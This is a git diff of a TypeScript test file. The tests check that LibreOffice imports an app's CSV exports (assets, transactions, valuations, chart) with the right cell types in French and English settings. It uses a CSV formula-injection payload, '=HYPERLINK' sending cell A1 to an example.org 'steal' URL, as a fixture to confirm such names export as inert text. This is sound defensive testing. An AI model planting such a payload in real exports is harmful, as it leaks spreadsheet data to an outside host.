@@ -3,7 +3,8 @@
  * scripts/ensure-test-tools.sh installs it) opens each file with the CSV import options of a
  * French and an English user and saves it as flat ODS XML, where every cell says its type and
  * value. Each number must be a number of exactly our value, each date a date, each name text —
- * a would-be formula included, with formula evaluation on (the import's worst case).
+ * a would-be formula included (a header too), with formula evaluation on (the import's worst
+ * case). And the plain layout in French settings, whose `-12.5` LibreOffice reads as text.
  */
 import { execFileSync } from 'node:child_process';
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
@@ -16,19 +17,32 @@ import { readBackupFile } from '$lib/backup/backup-file';
 import { importBackup } from '$lib/backup/import-json';
 import { bundledMigrations } from '$lib/db/migrations';
 import { listAssets } from './assets';
-import { assetsCsv, transactionsCsv } from './csv-exports';
+import { assetsCsv, chartCsv, transactionsCsv, valuationsCsv } from './csv-exports';
 import { csvFormat, writeCsv, type CsvLayout, type CsvTable } from './csv-write';
+import { loadHistory } from './history';
 import { normalDecimal } from './money';
 import { listTransactions } from './transactions';
+import { valuationSeries } from './valuations';
 
 const TODAY = '2026-11-21';
 const NOW = new Date(`${TODAY}T18:00:00.000Z`);
 const HOSTILE = '=HYPERLINK("https://example.org/steal?"&A1,"Click me")';
+/** A category named like a formula: a column header of the chart's CSV by category. */
+const FORMULA_CATEGORY = '=1+1';
+/**
+ * LibreOffice's first start (a new profile) can take a minute on a busy 2-core machine, beyond
+ * vitest's 30 s: each test has this long, soffice itself 30 s less, so its own timeout is said.
+ */
+const SOFFICE_TIMEOUT = 180_000;
 
 const work = mkdtempSync(join(tmpdir(), 'strata-csv-lo-'));
 afterAll(() => rmSync(work, { recursive: true, force: true }));
 
-/** The original's edge backup, and an account someone named like a formula, overdrawn. */
+/**
+ * The original's edge backup, and an account someone named like a formula, overdrawn, in a
+ * category named like a formula: the asset list, the transactions, the loan's valuations and the
+ * chart's monthly numbers by category.
+ */
 async function tables(): Promise<Record<string, CsvTable>> {
 	const { engine, db } = await testDatabase();
 	const bytes = readFileSync(
@@ -40,11 +54,21 @@ async function tables(): Promise<Record<string, CsvTable>> {
 	const ledger = new Ledger(engine);
 	const hostile = ledger.asset({ name: HOSTILE, type: 'CHECKING_ACCOUNT' });
 	ledger.valuation(hostile, '2026-02-28', '-12.5');
+	ledger.categorize(hostile, ledger.category(FORMULA_CATEGORY));
+	const [loan] = await listAssets(db, { search: 'Loan' }, TODAY);
+	const history = await loadHistory(db, {
+		range: 'ALL',
+		by: 'category',
+		today: TODAY,
+		maxPoints: Number.MAX_SAFE_INTEGER
+	});
 	return {
 		assets: assetsCsv(await listAssets(db, { showDisposed: true }, TODAY)),
 		transactions: transactionsCsv(
 			(await listTransactions(db, { pageSize: Number.MAX_SAFE_INTEGER })).rows
-		)
+		),
+		valuations: valuationsCsv(await valuationSeries(db, loan!.id), loan!.currency),
+		chart: chartCsv(history, 'EUR', 'monthly')
 	};
 }
 
@@ -79,7 +103,7 @@ function convert(files: Record<string, string>, separator: string, language: num
 			work,
 			...names.map((n) => join(work, `${n}.csv`))
 		],
-		{ stdio: 'pipe', timeout: 120_000 }
+		{ stdio: 'pipe', timeout: SOFFICE_TIMEOUT - 30_000 }
 	);
 	return Object.fromEntries(names.map((n) => [n, readFileSync(join(work, `${n}.fods`), 'utf8')]));
 }
@@ -120,11 +144,14 @@ function cellsOf(fods: string): Cell[][] {
 	);
 }
 
+/** Text as a spreadsheet shows our guarded cell: a would-be formula with its leading `'`. */
+const shown = (text: string) => (/^[=+\-@]/.test(text) ? `'${text}` : text);
+
 /** Every cell of `table` as LibreOffice read it: numbers, dates and text, each of its kind. */
 function expectReadRight(fods: string, table: CsvTable) {
 	const [header, ...rows] = cellsOf(fods);
-	expect(header!.slice(0, table.columns.length).map((c) => c.text)).toEqual(
-		table.columns.map((c) => c.header)
+	expect(header!.slice(0, table.columns.length).map((c) => [c.type, c.text])).toEqual(
+		table.columns.map((c) => ['string', shown(c.header)])
 	);
 	expect(rows).toHaveLength(table.rows.length);
 	table.rows.forEach((row, r) => {
@@ -145,7 +172,7 @@ function expectReadRight(fods: string, table: CsvTable) {
 				expect([cell.type, cell.value], where).toEqual(['date', value]);
 			} else {
 				expect(cell.type, where).toBe('string');
-				expect(cell.text, where).toBe(value === HOSTILE ? `'${value}` : value);
+				expect(cell.text, where).toBe(shown(value));
 			}
 		});
 	});
@@ -161,22 +188,49 @@ describe('LibreOffice reads our CSV exports right', async () => {
 			])
 		);
 
-	it('in French settings (fr-FR, ; between columns, 1234,56), the spreadsheet layout', () => {
-		const sheets = convert(write('spreadsheet', 'fr-FR'), ';', 1036);
-		expectReadRight(sheets['assets-spreadsheet-fr-FR']!, exported.assets!);
-		expectReadRight(sheets['transactions-spreadsheet-fr-FR']!, exported.transactions!);
-		expect(sheets['assets-spreadsheet-fr-FR']).toContain('office:value="-12.5"');
-	});
+	/** Every export of a layout and locale, checked as LibreOffice read it. */
+	const expectAllReadRight = (sheets: Record<string, string>, layout: string) => {
+		for (const [name, table] of Object.entries(exported))
+			expectReadRight(sheets[`${name}-${layout}`]!, table);
+	};
 
-	it('in English settings (en-US, , between columns, 1234.56), both layouts', () => {
-		const sheets = convert(
-			{ ...write('spreadsheet', 'en-US'), ...write('plain', 'fr-FR') },
-			',',
-			1033
-		);
-		for (const layout of ['spreadsheet-en-US', 'plain-fr-FR']) {
-			expectReadRight(sheets[`assets-${layout}`]!, exported.assets!);
-			expectReadRight(sheets[`transactions-${layout}`]!, exported.transactions!);
+	it(
+		'in French settings (fr-FR, ; between columns, 1234,56), the spreadsheet layout',
+		{ timeout: SOFFICE_TIMEOUT },
+		() => {
+			const sheets = convert(write('spreadsheet', 'fr-FR'), ';', 1036);
+			expectAllReadRight(sheets, 'spreadsheet-fr-FR');
+			expect(sheets['assets-spreadsheet-fr-FR']).toContain('office:value="-12.5"');
+			expect(exported.chart!.columns.map((c) => c.header)).toContain(FORMULA_CATEGORY);
 		}
-	});
+	);
+
+	it(
+		'in English settings (en-US, , between columns, 1234.56), both layouts',
+		{ timeout: SOFFICE_TIMEOUT },
+		() => {
+			const sheets = convert(
+				{ ...write('spreadsheet', 'en-US'), ...write('plain', 'fr-FR') },
+				',',
+				1033
+			);
+			for (const layout of ['spreadsheet-en-US', 'plain-fr-FR']) expectAllReadRight(sheets, layout);
+		}
+	);
+
+	it(
+		'in French settings, the plain layout reads -12.5 as text: why the spreadsheet layout exists',
+		{ timeout: SOFFICE_TIMEOUT },
+		() => {
+			const sheets = convert(
+				{ 'assets-plain-in-french': write('plain', 'fr-FR')['assets-plain-fr-FR']! },
+				',',
+				1036
+			);
+			const cells = cellsOf(sheets['assets-plain-in-french']!);
+			const value = exported.assets!.columns.findIndex((c) => c.header === 'Value');
+			const overdrawn = cells.find((row) => row[0]!.text === shown(HOSTILE))!;
+			expect(overdrawn[value]).toMatchObject({ type: 'string', text: '-12.5' });
+		}
+	);
 });
